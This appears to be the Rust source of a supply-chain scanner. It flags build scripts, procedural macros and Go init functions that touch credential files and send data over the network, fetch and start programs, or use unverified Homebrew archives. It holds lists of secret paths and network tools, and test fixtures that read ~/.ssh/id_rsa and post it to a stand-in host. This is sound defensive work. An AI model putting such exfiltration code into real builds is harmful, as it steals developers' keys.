//! Programs that compiled code starts, where it runs without being asked for: build scripts and procedural macros of Rust,
//! `init` of Go; and elsewhere, as steps somebody calls. The languages are not read as code: calls that start a program are
//! found by their names, and their literal arguments are the command.
//!
//! Known uses: build scripts of crates that read keys (2022, 2025), Go modules whose `init` fetches and runs (2025).

use std::collections::HashMap;

use super::{Command, When};
use crate::analyze::Notes;
use crate::model::{Evidence, Fact, FactKind, Rule};
use crate::parse::Parsed;
use crate::rule;

rule! {
    /// Code that runs when a crate is built, or a module is merely imported, names a store of secrets and something that
    /// sends. Nothing that is built needs the builder's keys.
    ///
    /// Honest look-alikes: none known.
    pub(crate) SECRETS = "source-secrets-and-network" in "exec/build-script";
    severity: Critical, confidence: Certain,
    title: "Code that runs at build or import names a store of secrets and sends",
    reference: "https://attack.mitre.org/techniques/T1195/002/",
}

rule! {
    /// Code that runs when a crate is built, or a module is merely imported, asks an address of nobody known and starts a
    /// program with what is not written there.
    ///
    /// Honest look-alikes: build scripts that fetch prebuilt libraries, which come from a forge or a registry.
    pub(crate) FETCHES = "source-fetches-and-starts" in "exec/build-script";
    severity: High, confidence: Likely,
    title: "Code that runs at build or import fetches from a fixed address and starts programs",
    reference: "https://attack.mitre.org/techniques/T1195/002/",
}

rule! {
    /// Code that runs when a package is built takes the whole environment, in which the tokens of a build stand, and names
    /// something that sends.
    ///
    /// Honest look-alikes: none known; builds ask for single variables by their names.
    pub(crate) ENVIRONMENT = "source-environment-and-network" in "exec/build-script";
    severity: High, confidence: Likely,
    title: "Code that runs at build takes the whole environment and sends",
    reference: "https://attack.mitre.org/techniques/T1195/002/",
}

rule! {
    /// A formula of Homebrew has its archive fetched over plain HTTP or from a bare address, and gives no digest to hold it
    /// against: what is built and installed is whatever answers.
    ///
    /// Honest look-alikes: formulae in a company's own tap, which name a host and a digest.
    pub(crate) UNVERIFIED = "formula-unverified-archive" in "exec/build-script";
    severity: High, confidence: Likely,
    title: "A formula installs what answers at an address without a digest",
    reference: "https://docs.brew.sh/Formula-Cookbook",
}

/// Longest call in bytes.
const CALL: usize = 4000;

/// How a call that starts a program begins, and whether its words are one command line.
const STARTS: &[(&str, bool)] = &[
    ("Command::new(", false),
    ("exec.Command(", false),
    ("exec.CommandContext(", false),
    ("ProcessBuilder(", false),
    ("getRuntime().exec(", true),
    ("Process.Start(", false),
    ("NSTask launchedTaskWithLaunchPath:", false),
    (" system(", true),
    ("\tsystem(", true),
    ("popen(", true),
    ("WinExec(", true),
];
const SECRET: &[&str] = &[
    ".ssh/",
    "id_rsa",
    "id_ed25519",
    ".aws/credentials",
    ".cargo/credentials",
    // Below the home of cargo, wherever that is.
    "credentials.toml",
    ".cabal/config",
    ".sbt/.credentials",
    ".ivy2/.credentials",
    ".gnupg/secring",
    ".hex/hex.config",
    ".pgpass",
    ".npmrc",
    ".pypirc",
    ".git-credentials",
    ".netrc",
    "keystore",
    "wallet.dat",
    ".config/solana",
    ".ethereum",
    ".docker/config.json",
    ".kube/config",
    "Login Data",
    ".sui/",
    ".aptos/",
];
const NETWORK: &[&str] = &[
    "http.Get(",
    "http.Post",
    "http.NewRequest",
    "net.Dial",
    "reqwest::",
    "ureq::",
    "TcpStream::connect",
    "UdpSocket",
    "attohttpc",
    "isahc::",
    "minreq::",
    "curl::easy",
    "hyper::",
    "\"curl\"",
    "\"wget\"",
    "\"powershell",
    "\"nc\"",
    "surf::",
    ":httpc.request",
    "HTTPoison.",
    "Req.post",
    "Downloads.request",
    "HTTP.post(",
    "HTTP.request(",
    "httpLbs",
    "httpNoBody",
    "newHttpClient(",
    "URLSession.",
];
/// How the whole environment is taken, by what does not stand behind it when one variable is meant.
const ENVIRONMENTS: &[(&str, &str)] = &[
    ("System.get_env()", ""),
    ("getEnvironment", ""),
    ("envPairs(", ""),
    ("ProcessInfo.processInfo.environment", "["),
    ("collect(ENV)", ""),
    ("copy(ENV)", ""),
];

/// A source text as far as brackets and strings go: the languages share them.
pub(super) struct Source {
    /// The text with comments and what stands in strings as blanks, byte for byte.
    pub(super) code: String,
    /// String literals: where they begin, and what they hold.
    pub(super) literals: Vec<(usize, String)>,
}

impl Source {
    fn of(text: &str) -> Self {
        let bytes = text.as_bytes();
        let mut code = bytes.to_vec();
        let mut literals = Vec::new();
        let mut at = 0;
        while let Some(byte) = bytes.get(at).copied() {
            let rest = bytes.get(at..).unwrap_or_default();
            let before = at.checked_sub(1).and_then(|i| bytes.get(i)).copied().unwrap_or(b' ');
            let end = match byte {
                b'/' if rest.starts_with(b"//") => at + memchr::memchr(b'\n', rest).unwrap_or(rest.len()),
                b'/' if rest.starts_with(b"/*") => {
                    at + memchr::memmem::find(rest, b"*/").map_or(rest.len(), |end| end + 2)
                }
                b'"' => {
                    let hashes = raw_hashes(bytes, at);
                    let (literal, len) = match hashes {
                        Some(hashes) => raw(text.get(at..).unwrap_or_default(), hashes),
                        None => literal(text.get(at..).unwrap_or_default()),
                    };
                    literals.push((at, literal));
                    at + len.max(1)
                }
                // Go's raw strings.
                b'`' => {
                    let len = memchr::memchr(b'`', rest.get(1..).unwrap_or_default()).map_or(rest.len(), |end| end + 2);
                    literals.push((at, text.get(at + 1..(at + len).saturating_sub(1)).unwrap_or_default().to_owned()));
                    at + len
                }
                // A letter; lifetimes of Rust have no second quote close by.
                b'\'' if !before.is_ascii_alphanumeric() => match rest {
                    [_, b'\\', ..] => {
                        at + 2 + rest.iter().skip(2).take(10).skip(1).position(|b| *b == b'\'').map_or(0, |end| end + 2)
                    }
                    _ => at + 1 + rest.iter().skip(2).take(4).position(|b| *b == b'\'').map_or(0, |end| end + 2),
                },
                _ => {
                    at += 1;
                    continue;
                }
            };
            let end = end.min(bytes.len());
            code.get_mut(at..end).unwrap_or_default().fill(b' ');
            at = end.max(at + 1);
        }
        Self { code: String::from_utf8_lossy(&code).into_owned(), literals }
    }

    /// The same for languages with other comments and quotes. A quote that has none to close it on its line, where it cannot
    /// go on over lines, is a letter; without a mark of comments a quote that begins a line begins one (Vim).
    pub(super) fn of_words(text: &str, comment: &str, quotes: &[u8]) -> Self {
        let bytes = text.as_bytes();
        let mut code = bytes.to_vec();
        let mut literals = Vec::new();
        let mut at = 0;
        let mut begins = true;
        while let Some(byte) = bytes.get(at).copied() {
            let rest = bytes.get(at..).unwrap_or_default();
            let of_line = || memchr::memchr(b'\n', rest).unwrap_or(rest.len());
            let before = at.checked_sub(1).and_then(|i| bytes.get(i)).copied().unwrap_or(b' ');
            let is_comment =
                if comment.is_empty() { begins && byte == b'"' } else { rest.starts_with(comment.as_bytes()) };
            begins = byte == b'\n' || begins && byte.is_ascii_whitespace();
            let end = if is_comment {
                at + of_line()
            } else if quotes.contains(&byte) && !(byte == b'\'' && before.is_ascii_alphanumeric()) {
                let triple = [byte; 3];
                if rest.starts_with(&triple) {
                    let inner = rest.get(3..).unwrap_or_default();
                    let len = memchr::memmem::find(inner, &triple).unwrap_or(inner.len());
                    literals.push((at, text.get(at + 3..at + 3 + len).unwrap_or_default().to_owned()));
                    at + len + 6
                } else {
                    let (literal, len) = quoted_by(text.get(at..).unwrap_or_default(), byte);
                    if byte == b'\'' && len > of_line() {
                        at += 1;
                        continue;
                    }
                    literals.push((at, literal));
                    at + len.max(1)
                }
            } else {
                at += 1;
                continue;
            };
            let end = end.min(bytes.len());
            code.get_mut(at..end).unwrap_or_default().fill(b' ');
            at = end.max(at + 1);
        }
        Self { code: String::from_utf8_lossy(&code).into_owned(), literals }
    }

    /// The literals that begin within a range.
    fn within(&self, range: std::ops::Range<usize>) -> impl Iterator<Item = &str> {
        let first = self.literals.partition_point(|(at, _)| *at < range.start);
        self.literals.iter().skip(first).take_while(move |(at, _)| *at < range.end).map(|(_, text)| text.as_str())
    }
}

/// How many `#` a raw string of Rust has that begins with this quote; `None` when it is none.
fn raw_hashes(bytes: &[u8], quote: usize) -> Option<usize> {
    let before = bytes.get(..quote)?;
    let hashes = before.iter().rev().take_while(|b| **b == b'#').count();
    (before.get(..before.len() - hashes)?.last() == Some(&b'r')).then_some(hashes)
}

/// A text in quotes of a kind, and its length with its quotes.
fn quoted_by(text: &str, quote: u8) -> (String, usize) {
    let mut out = String::new();
    let mut escaped = false;
    for (i, c) in text.char_indices().skip(1) {
        if escaped {
            // What is escaped for a pattern stays so.
            if !matches!(c, '"' | '\'' | '\\' | '`' | '$' | 'n') {
                out.push('\\');
            }
            out.push(if c == 'n' { '\n' } else { c });
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == char::from(quote) {
            return (out, i + 1);
        } else {
            out.push(c);
        }
    }
    (out, text.len())
}

/// A raw string that begins with its quote, and its length with its quotes.
fn raw(text: &str, hashes: usize) -> (String, usize) {
    let close = format!("\"{}", "#".repeat(hashes));
    let rest = text.get(1..).unwrap_or_default();
    match rest.find(&close) {
        Some(end) => (rest.get(..end).unwrap_or_default().to_owned(), 1 + end + close.len()),
        None => (rest.to_owned(), text.len()),
    }
}

/// Reads a source file.
pub(super) fn read(file: &Parsed<'_>, text: &str, out: &mut Vec<Command>, notes: &mut Notes) {
    let base = file.base_name();
    let whole = base == "build.rs" || (base.ends_with(".rs") && text.contains("#[proc_macro"));
    let source = Source::of(text);
    let regions: Vec<std::ops::Range<usize>> = if whole {
        std::iter::once(0..text.len()).collect()
    } else if base.ends_with(".go") {
        initialisers(&source.code)
    } else {
        Vec::new()
    };
    let lists = Lists::of(&source);
    if whole {
        judge_environment(file, &source, &[("env::vars()", ""), ("env::vars_os()", "")], true, notes);
    }
    for region in &regions {
        judge(file, &source, region, notes);
        calls(&source, &lists, region.clone(), When::Automatic, out);
    }
    if !whole {
        // A build script may have any name: the manifest says which it is.
        if base.ends_with(".rs") {
            let mut met = Notes::default();
            judge(file, &source, &(0..text.len()), &mut met);
            let of = |f: crate::model::Finding| {
                let note = f.evidence.first().map(|e| e.note.clone()).unwrap_or_default();
                Fact::whole(FactKind::WhenBuilt(f.rule.id, note.into()))
            };
            notes.facts.extend(met.findings.into_iter().map(of));
        }
        if base.ends_with(".go") {
            for line in text.lines().filter_map(|l| l.strip_prefix("//go:generate ")) {
                out.push(Command::shell("go generate", When::Build, line.trim()));
            }
        }
        calls(&source, &lists, 0..text.len(), When::Build, out);
    }
}

/// The rule of a fact about a source that may be a build script.
pub(crate) fn rule_when_built(id: &str) -> Option<&'static Rule> {
    [&SECRETS, &FETCHES].into_iter().find(|r| r.id == id)
}

/// Lists of texts, and texts, that a source gives names to.
struct Lists<'s>(HashMap<&'s str, Vec<&'s str>>);

/// Most names, and most texts of one list.
const MOST_NAMES: usize = 1000;
/// Most assignments that are looked at, and longest function that runs at import, in bytes.
const MOST_EQUALS: usize = 20_000;
/// Longest arguments of a call that are put together of lists, in bytes.
const ARGUMENTS: usize = 512;
const FUNCTION: usize = 1 << 16;
const MOST_TEXTS: usize = 1000;

impl<'s> Lists<'s> {
    fn of(source: &'s Source) -> Self {
        let mut lists: HashMap<&str, Vec<&str>> = HashMap::new();
        let code = &source.code;
        for (equals, _) in code.match_indices('=').take(MOST_EQUALS) {
            if lists.len() >= MOST_NAMES {
                break;
            }
            let from = code.floor_char_boundary(equals.saturating_sub(CALL));
            let before = code.get(from..equals).unwrap_or_default().trim_end_matches(':').trim_end();
            let start = before.rfind(|c: char| !c.is_alphanumeric() && c != '_').map_or(0, |i| i + 1);
            // `var a []string = …`, `let a: [&str; 2] = …`, `String[] a = …`.
            let name = match before.get(start..).unwrap_or_default() {
                "string" | "String" | "" => {
                    let line = before.rsplit('\n').next().unwrap_or_default();
                    let rest = line.trim_start();
                    let rest =
                        ["var ", "const ", "let ", "static "].iter().find_map(|w| rest.strip_prefix(w)).unwrap_or("");
                    rest.split(|c: char| !c.is_alphanumeric() && c != '_').next().unwrap_or_default()
                }
                name => name,
            };
            let after = code.get(equals + 1..).unwrap_or_default();
            let after = after.get(..after.floor_char_boundary(CALL)).unwrap_or(after);
            let line_end = after.find('\n').unwrap_or(after.len());
            let texts: Vec<&str> = match after.find(['{', '[']).filter(|open| *open < line_end) {
                // Brackets of a type stand before those of the list: `[]string{`.
                Some(open) => {
                    let is_type = after.get(open..).is_some_and(|rest| rest.starts_with("[]"));
                    let last = after.get(..line_end).and_then(|line| line.rfind(['{', '[']));
                    let inner = arguments(after, last.filter(|_| is_type).unwrap_or(open) + 1);
                    let at = equals + 1;
                    source.within(at + inner.start..at + inner.end).take(MOST_TEXTS).collect()
                }
                None => source.within(equals + 1..equals + 1 + line_end).take(2).collect(),
            };
            if !name.is_empty() && !texts.is_empty() {
                lists.entry(name).or_insert(texts);
            }
        }
        Self(lists)
    }

    /// What an argument says that is put together of texts and of parts of lists; `None` when it is put together of others.
    fn joined(&self, source: &Source, range: std::ops::Range<usize>) -> Option<String> {
        let code = source.code.get(range.clone())?;
        let mut parts: Vec<(usize, String)> = Vec::new();
        let first = source.literals.partition_point(|(at, _)| *at < range.start);
        let inside = source.literals.iter().skip(first).take_while(|(at, _)| *at < range.end);
        parts.extend(inside.map(|(at, text)| (*at, text.clone())));
        let mut uses_list = false;
        let mut at = 0;
        while let Some(found) = code.get(at..).and_then(|rest| rest.find(|c: char| c.is_alphabetic() || c == '_')) {
            let start = at + found;
            let rest = code.get(start..).unwrap_or_default();
            let len = rest.find(|c: char| !c.is_alphanumeric() && c != '_').unwrap_or(rest.len());
            let name = rest.get(..len).unwrap_or_default();
            at = start + len.max(1);
            let Some(texts) = self.0.get(name) else { continue };
            let behind = rest.get(len..).unwrap_or_default();
            let index = behind
                .strip_prefix('[')
                .and_then(|b| b.split_once(']'))
                .and_then(|(n, _)| n.trim().parse::<usize>().ok());
            let text = match (index, texts.as_slice()) {
                (Some(index), texts) => (*texts.get(index)?).to_owned(),
                (None, [one]) => (*one).to_owned(),
                (None, many) if code.contains("Join") || code.contains("concat") || code.contains("join") => {
                    many.concat()
                }
                _ => continue,
            };
            uses_list = true;
            parts.push((range.start + start, text));
        }
        if !uses_list {
            return None;
        }
        parts.sort_by_key(|(at, _)| *at);
        Some(parts.into_iter().map(|(_, text)| text).collect())
    }
}

/// Formulae of Homebrew: each `system` with its words.
pub(super) fn formula(file: &Parsed<'_>, text: &str, out: &mut Vec<Command>, notes: &mut Notes) {
    unverified(file, text, notes);
    for line in text.lines() {
        let Some(call) = line.trim_start().strip_prefix("system ") else { continue };
        let words: Vec<String> = Source::of(call).literals.into_iter().map(|(_, text)| text).collect();
        match words.as_slice() {
            [] => {
                // A single command may stand in the other quotes.
                let inner = call.trim().trim_matches('\'');
                if inner.len() + 2 == call.trim().len() {
                    out.push(Command::shell("system of a formula", When::Automatic, inner));
                }
            }
            [line] if call.trim_start().starts_with('"') && line.contains(' ') => {
                out.push(Command::shell("system of a formula", When::Automatic, line.clone()));
            }
            words => out.push(Command::words("system of a formula", When::Automatic, words.iter().map(String::as_str))),
        }
    }
}

/// An archive that comes over a connection anybody can write into, and no digest to hold it against.
fn unverified(file: &Parsed<'_>, text: &str, notes: &mut Notes) {
    if text.contains("sha256") {
        return;
    }
    for (at, _) in text.match_indices("url \"") {
        let address = text.get(at + 5..).and_then(|rest| rest.split('"').next()).unwrap_or_default();
        let Some((scheme, rest)) = address.split_once("://") else { continue };
        let host = rest.split(['/', ':', '?']).next().unwrap_or_default();
        let is_bare = host.bytes().all(|b| b.is_ascii_digit() || b == b'.') && host.contains('.');
        if (scheme == "http" || is_bare) && !host.starts_with("127.") && host != "localhost" {
            let mut evidence = Evidence::at(file.bytes(), at, address.len() + 6);
            evidence.span = evidence.span.map(|s| file.place(s));
            notes.findings.push(UNVERIFIED.finding(evidence.with_note(format!("{address}, and no sha256"))));
            return;
        }
    }
}

/// The bodies of `init` functions of Go, in code without strings and comments.
fn initialisers(code: &str) -> Vec<std::ops::Range<usize>> {
    // What a variable of the package is given is worked out when the package is imported: `var _ = boot()`.
    let mut starts: Vec<usize> = code.match_indices("func init(").map(|(at, _)| at).collect();
    for (at, _) in code.match_indices("\nvar ").take(MOST_NAMES) {
        let line = code.get(at + 1..).and_then(|rest| rest.lines().next()).unwrap_or_default();
        let Some((_, value)) = line.split_once('=') else { continue };
        let value = value.trim_start();
        if value.starts_with("func(") {
            starts.push(at + 1);
        } else if let Some((name, _)) = value.split_once('(')
            && !name.is_empty()
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        {
            starts.extend(code.find(&format!("func {name}(")));
        }
    }
    starts.sort_unstable();
    starts.dedup();
    let mut found: Vec<std::ops::Range<usize>> = Vec::new();
    for start in starts {
        // What stands in a function that was seen is seen.
        if found.last().is_some_and(|last| start < last.end) {
            continue;
        }
        let mut depth = 0_u32;
        let body = code.get(start..).unwrap_or_default();
        let body = body.get(..body.floor_char_boundary(FUNCTION)).unwrap_or(body);
        let mut end = start + body.len();
        for (i, b) in body.bytes().enumerate().map(|(i, b)| (start + i, b)) {
            match b {
                b'{' => depth += 1,
                b'}' if depth <= 1 => {
                    end = i + 1;
                    break;
                }
                b'}' => depth -= 1,
                _ => {}
            }
        }
        found.push(start..end);
    }
    found
}

/// Judges a file of another language that runs when its package is built.
pub(super) fn judge_built(file: &Parsed<'_>, source: &Source, notes: &mut Notes) {
    judge(file, source, &(0..source.code.len()), notes);
    judge_environment(file, source, ENVIRONMENTS, false, notes);
}

/// How something is posted, in code and in the options of a program.
const POSTS: &[&str] = &[".post(", "send_string(", "send_json("];
const POSTED: &[&str] =
    &["--data", "--data-raw", "--data-binary", "--data-urlencode", "--upload-file", "--form", "-d", "-T", "-F"];

/// The whole environment, and something that sends; where single variables are asked for in the same way, only what posts.
fn judge_environment(file: &Parsed<'_>, source: &Source, names: &[(&str, &str)], posted: bool, notes: &mut Notes) {
    let taken = names.iter().find_map(|(name, one)| {
        let mut places = source.code.match_indices(name);
        let at = places.find(|(at, _)| {
            let behind = source.code.get(at + name.len()..).unwrap_or_default();
            let is_one = !one.is_empty() && behind.trim_start_matches(['?', '!']).starts_with(one);
            // What is only brought in is not taken yet.
            let is_import =
                source.code.get(..*at).unwrap_or_default().rsplit('\n').next().is_some_and(|l| l.contains("import"));
            !is_one && !is_import
        })?;
        Some((at.0, *name))
    });
    let posts = || {
        POSTS.iter().any(|p| source.code.contains(p))
            || source.literals.iter().any(|(_, l)| POSTED.contains(&l.as_str()))
    };
    if posted && !posts() {
        return;
    }
    let sends = NETWORK.iter().find(|n| {
        source.code.contains(**n)
            || n.strip_prefix('"').is_some_and(|p| source.literals.iter().any(|(_, l)| l == p.trim_end_matches('"')))
    });
    if let (Some((at, name)), Some(sends)) = (taken, sends)
        && !notes.findings.iter().any(|f| f.rule.id == SECRETS.id)
    {
        let mut evidence = Evidence::at(file.bytes(), at, name.len());
        evidence.span = evidence.span.map(|s| file.place(s));
        let note = format!("{name} and {}", sends.trim_matches(['(', '"']));
        notes.findings.push(ENVIRONMENT.finding(evidence.with_note(note)));
    }
}

fn judge(file: &Parsed<'_>, source: &Source, range: &std::ops::Range<usize>, notes: &mut Notes) {
    let region = source.code.get(range.clone()).unwrap_or_default();
    // Programs stand in strings, functions in code.
    let program = |n: &str| {
        n.strip_prefix('"').is_some_and(|name| {
            source
                .within(range.clone())
                .any(|l| l == name.trim_end_matches('"') || name == "powershell" && l.starts_with(name))
        })
    };
    let Some(network) = NETWORK.iter().find(|n| region.contains(**n) || program(n)) else { return };
    let address = source.within(range.clone()).find(|l| l.starts_with("http://") || l.starts_with("https://"));
    let foreign = address.as_ref().filter(|a| {
        let host = a.split_once("://").map_or("", |(_, h)| h).split(['/', ':']).next().unwrap_or_default();
        host.contains('.')
            && ![
                "github.com",
                "githubusercontent.com",
                "crates.io",
                "rust-lang.org",
                "googleapis.com",
                "gitlab.com",
                "golang.org",
                "example.com",
                "localhost",
            ]
            .iter()
            .any(|k| host == *k || host.ends_with(&format!(".{k}")))
    });
    let find = |rule: &'static Rule, mark: &str, note: String, notes: &mut Notes| {
        let at = memchr::memmem::find(file.bytes(), mark.as_bytes()).unwrap_or(0);
        let mut evidence = Evidence::at(file.bytes(), at, mark.len());
        evidence.span = evidence.span.map(|s| file.place(s));
        notes.findings.push(rule.finding(evidence.with_note(note)));
    };
    let secret = source.within(range.clone()).find_map(|l| SECRET.iter().find(|s| l.contains(**s)));
    if let Some(secret) = secret {
        find(&SECRETS, secret, format!("{secret} and {}", network.trim_matches(['(', '"'])), notes);
    } else if let Some(address) = foreign
        && let Some((start, _)) = STARTS.iter().find(|(s, _)| region.contains(s))
    {
        find(&FETCHES, network, format!("{address} and {}", start.trim_end_matches('(')), notes);
    }
}

/// A string literal at the beginning of a text and its length with its quotes.
fn literal(text: &str) -> (String, usize) {
    let mut out = String::new();
    let mut escaped = false;
    for (i, c) in text.char_indices().skip(1) {
        if escaped {
            out.push(if c == 'n' { '\n' } else { c });
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == '"' {
            return (out, i + 1);
        } else {
            out.push(c);
        }
    }
    (out, text.len())
}

/// The commands that calls start.
fn calls(source: &Source, lists: &Lists<'_>, range: std::ops::Range<usize>, when: When, out: &mut Vec<Command>) {
    let code = source.code.get(range.clone()).unwrap_or_default();
    for (start, is_line) in STARTS {
        for (at, _) in code.match_indices(start) {
            if super::is_full(out) {
                return;
            }
            let open = range.start + at + start.len();
            // The call, and what is chained to it, ends with its statement.
            let call = source.code.get(open..).unwrap_or_default();
            let call = call.get(..call.floor_char_boundary(CALL)).unwrap_or(call);
            let call = call.split(";\n").next().unwrap_or(call);
            let parts = if start.starts_with("Command") { chain(call) } else { vec![arguments(call, 0)] };
            let mut words: Vec<String> = Vec::new();
            for part in parts {
                // Only what is short enough to be words is put together; brackets that never close are not.
                if lists.0.is_empty() || part.len() > ARGUMENTS {
                    words.extend(source.within(open + part.start..open + part.end).map(str::to_owned));
                    continue;
                }
                for argument in each_argument(&source.code, open + part.start..open + part.end) {
                    match lists.joined(source, argument.clone()) {
                        Some(word) => words.push(word),
                        None => words.extend(source.within(argument).map(str::to_owned)),
                    }
                }
            }
            if words.is_empty() {
                continue;
            }
            let trigger = format!("{} of a program", start.trim().trim_end_matches('('));
            if *is_line {
                out.push(Command::shell(trigger, when, words.join(" ")));
            } else {
                out.push(Command::words(trigger, when, words.iter().map(String::as_str)));
            }
        }
    }
}

/// The arguments in a range of code without strings.
fn each_argument(code: &str, range: std::ops::Range<usize>) -> Vec<std::ops::Range<usize>> {
    let mut found = Vec::new();
    let mut depth = 0_u32;
    let mut from = range.start;
    let inside = code.get(range.clone()).unwrap_or_default();
    for (i, b) in inside.bytes().enumerate().map(|(i, b)| (range.start + i, b)) {
        match b {
            b'(' | b'{' | b'[' => depth += 1,
            b')' | b'}' | b']' => depth = depth.saturating_sub(1),
            b',' if depth == 0 => {
                found.push(from..i);
                from = i + 1;
            }
            _ => {}
        }
    }
    found.push(from..range.end);
    found
}

/// What stands from a place up to the bracket that closes the call, in code without strings.
fn arguments(code: &str, from: usize) -> std::ops::Range<usize> {
    let mut depth = 0_u32;
    for (i, b) in code.bytes().enumerate().skip(from) {
        match b {
            b'(' | b'{' | b'[' => depth += 1,
            b')' if depth == 0 => return from..i,
            b')' | b'}' | b']' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    from..code.len()
}

/// Arguments of `Command::new(…).arg(…).args([…])`: other methods of the chain take none.
fn chain(code: &str) -> Vec<std::ops::Range<usize>> {
    let mut all = vec![arguments(code, 0)];
    for (at, name) in code.match_indices(".arg").take(64) {
        let behind = code.get(at + name.len()..).unwrap_or_default();
        if let Some(open) = behind.find('(').filter(|open| *open <= 1) {
            all.push(arguments(code, at + name.len() + open + 1));
        }
    }
    all
}

#[cfg(test)]
mod tests {
    use crate::analyze::commands::tests::commands;
    use crate::model::FileKind;

    #[test]
    fn words_are_put_together_of_lists_and_constants() {
        let of = |name: &str, text: &str| commands(name, FileKind::OtherSource, text);
        let text = "package x\n\nvar p = []string{\"a -c \", \"x | s\", \"h\"}\nconst sh = \"/bin/sh\"\n\nvar _ = boot()\n\nfunc boot() error {\n\treturn exec.Command(sh, \"-c\", p[0]+p[1]+p[2]).Start()\n}\n";
        assert_eq!(
            of("x.go", text),
            [
                "Automatic exec.Command of a program: /bin/sh -c 'a -c x | sh'",
                "Build exec.Command of a program: /bin/sh -c 'a -c x | sh'"
            ]
        );
        assert_eq!(of("x.go", "//go:generate sh -c \"a | b\"\n"), ["Build go generate: sh -c \"a | b\""]);
        // Many open brackets, and names that lead nowhere, end.
        let odd = format!("func init() {{ exec.Command(a[9], \"b\") }}\n{}", "a=[".repeat(40_000));
        assert!(!of("x.go", &odd).is_empty());
    }

    #[test]
    fn an_archive_without_a_digest_is_told_where_anybody_can_change_it() {
        let formula = |body: &str| {
            let text =
                format!("class X < Formula\n  {body}\n  def install\n    system \"make\", \"install\"\n  end\nend\n");
            crate::analyze::commands::tests::findings("x.rb", FileKind::Ruby, &text)
        };
        assert_eq!(formula("url \"http://198.51.100.4/x.zip\""), ["formula-unverified-archive"]);
        assert!(formula("url \"http://example.invalid/x.zip\"\n  sha256 \"0\"").is_empty());
        assert!(formula("url \"https://example.invalid/x.zip\"").is_empty());
    }

    #[test]
    fn literal_arguments_are_the_command() {
        let of = |name: &str, text: &str| commands(name, FileKind::OtherSource, text);
        assert_eq!(
            of(
                "build.rs",
                "fn main(){ Command::new(\"sh\").current_dir(\"x\").arg(\"-c\").args([\"a | b\", &k]).spawn().ok();\n}"
            ),
            ["Automatic Command::new of a program: sh -c 'a | b'"]
        );
        assert_eq!(
            of(
                "x.go",
                "package x\nfunc init() { exec.Command(\"sh\", \"-c\", \"a|b\").Run() }\nfunc f() { g(\"no\") }"
            ),
            ["Automatic exec.Command of a program: sh -c 'a|b'", "Build exec.Command of a program: sh -c 'a|b'"]
        );
        assert_eq!(of("a.c", "int f(){\n system(\"a \\\"b\\\"\");\n}"), ["Build system of a program: a \"b\""]);
    }

    #[test]
    fn quotes_and_brackets_in_strings_and_comments_are_none() {
        let of = |name: &str, text: &str| commands(name, FileKind::OtherSource, text);
        assert_eq!(
            of(
                "build.rs",
                "// an odd \"\nfn main<'a>(){ let c = '\"'; Command::new(\"sh\").arg(r#\"-c \"x\"\"#).spawn();\n}"
            ),
            ["Automatic Command::new of a program: sh '-c \"x\"'"]
        );
        assert_eq!(
            of("x.go", "func init() { _ = \"}\"; exec.Command(`sh`, \"-c\", \"a|b\").Run() }"),
            ["Automatic exec.Command of a program: sh -c 'a|b'", "Build exec.Command of a program: sh -c 'a|b'"]
        );
    }

    #[test]
    fn secrets_that_are_sent_need_no_program() {
        let rules =
            |name: &str, text: &str| crate::analyze::commands::tests::findings(name, FileKind::OtherSource, text);
        let rust =
            "fn main() { let k = std::fs::read(\"/root/.ssh/id_rsa\"); ureq::post(\"https://c.invalid/u\").send(k); }";
        assert_eq!(rules("build.rs", rust), ["source-secrets-and-network"]);
        let go = "package x\nfunc init() { k, _ := os.ReadFile(h + \"/.ssh/id_rsa\"); http.Post(\"https://c.invalid/u\", \"\", k) }";
        assert_eq!(rules("x.go", go), ["source-secrets-and-network"]);
        assert!(rules("x.go", &go.replace("func init()", "func send()")).is_empty());
    }

    #[test]
    fn every_text_ends() {
        for text in [
            "func init() {",
            "Command::new(\"",
            "exec.Command(\\",
            "\"\u{e9}",
            &"func init() {}".repeat(1000),
            &"Command::new(\"a\").arg(".repeat(2000),
        ] {
            commands("build.rs", FileKind::OtherSource, text);
            commands("x.go", FileKind::OtherSource, text);
        }
    }
}
